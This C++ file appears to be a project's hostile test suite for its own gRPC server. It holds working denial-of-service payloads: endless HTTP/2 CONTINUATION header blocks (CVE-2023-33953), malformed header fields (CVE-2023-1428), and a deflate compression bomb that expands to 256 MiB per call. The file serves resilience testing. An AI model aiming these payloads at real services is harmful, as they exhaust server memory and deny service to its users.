// SPDX-License-Identifier: Apache-2.0
// Attacks by the header fields of calls, and by compression that they announce.
#include <zlib.h>

#include <algorithm>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "absl/status/statusor.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "tests/hostile/attack_functions.h"
#include "tests/hostile/caller.h"
#include "tests/hostile/door.h"
#include "tests/hostile/http2.h"
#include "tests/hostile/senders.h"

namespace gpumem::hostile {
namespace {

constexpr size_t kPartBytes = 16000;

// A header block that does not end: how it begins, and a frame to be sent again and again.
struct Block {
  std::string begin;
  std::string more;
};

std::string Begin(absl::string_view fields) {
  return absl::StrCat(kPreface, Frame(kSettings, 0, 0, ""), Frame(kHeaders, 0, 1, fields));
}

// CVE-2023-33953: gRPC 1.51 keeps all of these, and looks at all again for each further frame.
std::vector<Block> EndlessBlocks() {
  // A field without a number in a table, whose name is "a".
  const std::string name("\0\1a", 3);
  const auto more = [](char byte, size_t bytes) {
    return Frame(kContinuation, 0, 1, std::string(bytes, byte));
  };
  return {
      // A value of 256 MiB: RFC 7541, 5.1, has its length in parts of 7 bits.
      {.begin = Begin(absl::StrCat(name, "\x7f\x81\xff\xff\x7f")), .more = more('b', kPartBytes)},
      // A length that goes on with zeros.
      {.begin = Begin(absl::StrCat(name, "\x7f")), .more = more('\x80', kPartBytes)},
  };
}

// CVE-2023-1428: fields with wrong values, before others that exceed what gRPC takes.
std::vector<std::string> WrongFields() {
  std::string filling;
  for (int i = 0; i < 100; ++i) filling += HeaderField("filling", std::string(100, 'x'));
  std::vector<std::string> all;
  for (const std::string& wrong :
       {HeaderField("te", "x"), HeaderField(":scheme", "x"), HeaderField(":method", "x"),
        HeaderField("grpclb_client_stats", "x"), HeaderField("lb-cost-bin", "AA"),
        HeaderField("token-bin", "no base64")}) {
    all.push_back(wrong);
    all.push_back(wrong + filling);
  }
  return all;
}

}  // namespace

Tally EndlessHeaders(const Orders& orders) {
  const std::vector<Block> blocks = EndlessBlocks();
  size_t made = 0;
  return SendOnMany(orders, /*connections=*/32, [&] {
    return [&block = blocks[made++ % blocks.size()], begun = false](const Seat&, Tally&) mutable {
      return std::exchange(begun, true) ? block.more : block.begin;
    };
  });
}

Tally WrongHeaders(const Orders& orders) {
  const std::vector<std::string> all = WrongFields();
  const auto body = std::make_shared<const std::string>(GrpcMessage(""));
  Tally tally;
  for (size_t i = 0; !Over(orders); ++i) {
    absl::StatusOr<Seat> seat = Knock(orders.runtime_dir);
    if (!seat.ok()) {
      ++tally["refused"];
      Pause();
      continue;
    }
    Http2Client client(std::move(seat->stream), seat->token);
    // Each call takes a quarter of a second at most: one that is refused may have no answer.
    for (size_t call = 0; call < all.size() && !client.closed() && !Over(orders); ++call) {
      const uint64_t before = client.answered();
      client.Begin(kListDevices, body, /*end=*/true, all[(i + call) % all.size()]);
      ++tally["calls"];
      client.Run([&] { return client.answered() > before; },
                 std::min(orders.deadline, absl::Now() + absl::Milliseconds(250)));
    }
    ++tally["connections"];
    if (client.closed()) ++tally["closed"];
  }
  return tally;
}

// Requests that are a thousand times as large as the bytes sent: on each connection 50 calls at
// once, of 256 MiB each.
Tally CompressedRequests(const Orders& orders) {
  constexpr uint32_t kCalls = 50;
  const std::string zeros(size_t{256} << 20, '\0');
  std::string small(compressBound(zeros.size()), '\0');
  uLongf size = small.size();
  compress2(reinterpret_cast<Bytef*>(small.data()), &size,
            reinterpret_cast<const Bytef*>(zeros.data()), zeros.size(), Z_BEST_COMPRESSION);
  small.resize(size);
  std::string message = GrpcMessage(small);
  message[0] = 1;  // it is compressed
  const auto body = std::make_shared<const std::string>(std::move(message));
  Tally tally;
  while (!Over(orders)) {
    absl::StatusOr<Seat> seat = Knock(orders.runtime_dir);
    if (!seat.ok()) {
      ++tally["refused"];
      Pause();
      continue;
    }
    ++tally["connections"];
    Http2Client client(std::move(seat->stream), seat->token);
    while (!client.closed() && !Over(orders)) {
      const uint64_t end = client.answered() + kCalls;
      for (uint32_t i = 0; i < kCalls; ++i) {
        client.Begin(kListDevices, body, /*end=*/true, HeaderField("grpc-encoding", "deflate"));
      }
      client.Run([&] { return client.answered() >= end; }, orders.deadline);
    }
    tally["answered"] += client.answered();
    if (client.closed()) ++tally["closed"];
  }
  return tally;
}

}  // namespace gpumem::hostile
